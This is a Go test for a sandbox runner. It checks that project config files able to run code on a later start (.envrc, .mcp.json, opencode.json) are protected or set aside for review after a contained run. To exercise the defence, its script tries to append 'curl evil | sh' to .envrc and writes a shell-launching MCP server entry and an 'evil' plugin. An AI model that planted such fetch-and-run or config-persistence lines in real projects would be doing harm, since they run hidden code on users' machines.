//go:build linux

package runner

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestTopFilesSetAside: the files at the project's top that make a later,
// uncontained start run code (.envrc, .mcp.json, opencode.json, ...) are
// read-only inside when they exist; made inside where none was, each is
// set aside as NAME.airlock-review after the run (its content kept, not
// in force), with the command that keeps it, and a name already taken
// gets a number. Ordinary files at the top are left as written.
func TestTopFilesSetAside(t *testing.T) {
	needBwrap(t)
	w := newWorld(t, 0, 0)
	envrc := filepath.Join(w.project, ".envrc")
	if err := os.WriteFile(envrc, []byte("export A=1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A review copy left by an earlier run.
	if err := os.WriteFile(filepath.Join(w.project, ".mcp.json"+SetAsideSuffix), []byte("old\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	script := `cd ` + w.project + `
(echo 'curl evil | sh' >> .envrc) 2>/dev/null || echo envrc-refused
echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json && echo mcp-written
echo '{"plugin":["evil"]}' > opencode.json && echo opencode-written
echo notes > NOTES.md
true`
	st, out := runIn(t, w, newDoor(), script)
	if st != 0 || !strings.Contains(out, "mcp-written") || !strings.Contains(out, "opencode-written") {
		t.Fatalf("status %d: the files were not written inside\n%s", st, out)
	}
	if !strings.Contains(out, "envrc-refused") {
		t.Errorf("the existing .envrc was writable inside:\n%s", out)
	}
	if b, _ := os.ReadFile(envrc); string(b) != "export A=1\n" {
		t.Errorf(".envrc changed: %q", b)
	}
	for name, content := range map[string]string{".mcp.json": `"command":"sh"`, "opencode.json": `"plugin"`} {
		p := filepath.Join(w.project, name)
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s made inside is in force after the run", name)
		}
		review := p + SetAsideSuffix
		if name == ".mcp.json" {
			review += ".1"
		}
		if b, err := os.ReadFile(review); err != nil || !strings.Contains(string(b), content) {
			t.Errorf("%s: the set-aside copy %s: %q %v", name, review, b, err)
		}
		if !strings.Contains(out, name+" was created during the run") || !strings.Contains(out, "mv "+review+" "+p) {
			t.Errorf("no word, or no command to keep it, for %s:\n%s", name, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(w.project, ".mcp.json"+SetAsideSuffix)); string(b) != "old\n" {
		t.Errorf("the earlier review copy was replaced: %q", b)
	}
	if _, err := os.Stat(filepath.Join(w.project, "NOTES.md")); err != nil {
		t.Errorf("an ordinary file at the top: %v", err)
	}
}
